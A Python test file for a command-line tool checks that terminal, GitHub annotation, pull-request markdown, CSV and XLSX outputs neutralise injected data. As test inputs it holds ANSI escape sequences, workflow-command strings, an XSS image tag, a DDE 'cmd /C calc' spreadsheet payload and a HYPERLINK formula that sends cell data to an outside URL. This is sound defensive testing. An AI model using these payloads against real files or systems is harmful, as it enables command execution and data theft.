"""Outputs that cannot attack their reader (issue #12, item 3): terminals, CI logs, GitHub
annotations and pull-request comments, CSV and XLSX files.

Data comes from many offices and git history from anyone with a branch: nothing they write may
recolour or clear a terminal, start a GitHub workflow command, mention people, break a table or
become a live spreadsheet formula.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from conftest import DATA, git, set_group
from typer.testing import CliRunner

from roadmap_cli.cli import app

runner = CliRunner()


def _replace_title(data: Path, title: str) -> None:
    path = data / "recommendations.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace('"Online data exchange protocol"', title), encoding="utf-8")


def test_log_strips_escape_sequences_from_commit_subjects(cws7_repo: Path) -> None:
    repo = cws7_repo.parent
    recommendations = cws7_repo / "recommendations.yaml"
    recommendations.write_text(
        set_group(recommendations.read_text(encoding="utf-8"), "R20", 3), encoding="utf-8"
    )
    subject = "R20 to Group 3\x1b[2J\x1b]0;owned\x07\x1b[31m, quietly\x1b[0m"
    git(repo, "commit", "-q", "-am", subject)
    result = runner.invoke(app, ["log", "R20", "--data", str(cws7_repo)])
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    short = git(repo, "rev-parse", "--short=7", "HEAD").strip()
    assert f"  2020-12-04  {short}  R20 to Group 3, quietly\n" in result.stdout


def test_rich_markup_in_a_title_is_shown_as_written(data_copy: Path) -> None:
    _replace_title(data_copy, '"[bold red]Online[/] [link=https://example.org]exchange[/link]"')
    result = runner.invoke(app, ["show", "R01", "--data", str(data_copy)])
    assert result.exit_code == 0, result.stderr
    assert "[bold red]Online[/] [link=https://example.org]exchange[/link]" in " ".join(
        result.stdout.split()
    )


def test_a_folder_name_cannot_start_a_workflow_command_in_text_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "::error::owned"
    shutil.copytree(DATA, folder)
    (folder / "sessions.yaml").write_text("~\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, ["validate", "--data", "::error::owned"])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        ":\u200b:error:\u200b:owned/sessions.yaml:1:1: error: the file is empty; add the data or "
        "delete the file [empty-file]"
    )


def test_a_title_wrapped_by_a_terminal_table_cannot_start_a_workflow_command(
    data_copy: Path,
) -> None:
    _replace_title(data_copy, '"a long title that wraps ::error::owned and ##[error]owned"')
    result = runner.invoke(app, ["list", "--data", str(data_copy)])
    assert result.exit_code == 0, result.stderr
    assert "::" not in result.stdout and "##[" not in result.stdout
    assert ":\u200b:error:\u200b:owned" in result.stdout


def test_github_annotations_escape_the_folder_name_and_the_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "50%, a:b\n::error::owned"
    shutil.copytree(DATA, folder)
    (folder / "sessions.yaml").write_text("~\n", encoding="utf-8")
    _replace_title(folder, "[a, b]")  # a list where text is due: the message quotes it
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, ["validate", "--format", "github", "--data", folder.name])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[0] == (
        "::error file=50%25%2C a%3Ab%0A%3A%3Aerror%3A%3Aowned/recommendations.yaml,line=62,"
        "col=12,title=wrong-type::title should be text or null, not a list; write text or null"
    )
    assert lines[1] == (
        "::error file=50%25%2C a%3Ab%0A%3A%3Aerror%3A%3Aowned/sessions.yaml,line=1,col=1,"
        "title=empty-file::the file is empty; add the data or delete the file"
    )
    notes = [line for line in lines if line.startswith("note: ")]  # plain text, one line each
    assert len(notes) == 2 and all("\n" not in note and "::" not in note for note in notes)
    assert all(line.startswith("::error file=") for line in lines[: -1 - len(notes)])


def test_the_pull_request_comment_neutralises_mentions_references_tables_and_html(
    cws7_repo: Path,
) -> None:
    title = r'"Ping @octocat and @wipo/cws: fixes #123 | <img src=x onerror=alert(1)>\nline 2"'
    _replace_title(cws7_repo, title)
    result = runner.invoke(app, ["diff", "HEAD", "--data", str(cws7_repo), "-f", "markdown"])
    assert result.exit_code == 0, result.stderr
    row = next(line for line in result.stdout.splitlines() if line.startswith("| R01 | title"))
    assert row == (
        "| R01 | title | Online data exchange protocol | <del>Online</del> <ins>Ping</ins> "
        "<del>data</del> <ins>@&#8203;octocat</ins> <del>exchange</del> <ins>and</ins> "
        "<del>protocol</del> <ins>@&#8203;wipo/cws: fixes #&#8203;123 \\| "
        "&lt;img src=x onerror=alert(1)&gt;<br>line 2</ins> |"
    )
    body = result.stdout
    assert "<img" not in body and "@octocat" not in body and "#123" not in body


FORMULAS = {
    "R01": '=HYPERLINK("https://example.org/?"&A1,"click")',
    "R02": "+1+cmd|' /C calc'!A0",
    "R03": "-2+3",
    "R04": "@SUM(1,2)",
}


def _formula_titles(data: Path) -> None:
    path = data / "recommendations.yaml"
    text = path.read_text(encoding="utf-8")
    for rec_id, formula in FORMULAS.items():
        start = text.index(f"  - id: {rec_id}\n")
        end = text.index("\n    group:", start)
        quoted = formula.replace("\\", "\\\\").replace('"', '\\"')
        text = (
            text[:start]
            + f'  - id: {rec_id}\n    title: "{quoted}"\n    text: "{quoted}"'
            + text[end:]
        )
    path.write_text(text, encoding="utf-8")


def test_the_annex_csv_writes_formulas_from_data_as_text(data_copy: Path) -> None:
    import csv

    _formula_titles(data_copy)
    result = runner.invoke(app, ["annex", "--format", "csv", "--data", str(data_copy)])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(result.stdout.removeprefix("\ufeff").splitlines()))  # the BOM
    assert rows[0][:2] == ["No.", "Recommendation"]
    assert [row[1] for row in rows[1:5]] == [f"'{f}" for f in FORMULAS.values()]


def test_the_survey_form_carries_no_live_formula(data_copy: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _formula_titles(data_copy)
    survey = ["survey", "form", "--survey", "2020-task-force", "--data", str(data_copy)]
    for suffix in ("csv", "xlsx"):
        result = runner.invoke(app, [*survey, "--out", str(tmp_path / f"form.{suffix}")])
        assert result.exit_code == 0, result.stderr
    csv_text = (tmp_path / "form.csv").read_text(encoding="utf-8-sig")
    for rec_id, formula in FORMULAS.items():
        quoted = formula.replace('"', '""')
        assert f'{rec_id},"\'{quoted}"' in csv_text or f"{rec_id},'{quoted}," in csv_text
    sheet = load_workbook(tmp_path / "form.xlsx").active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    for formula in FORMULAS.values():
        assert by_value[formula].data_type == "s" and by_value[formula].quotePrefix
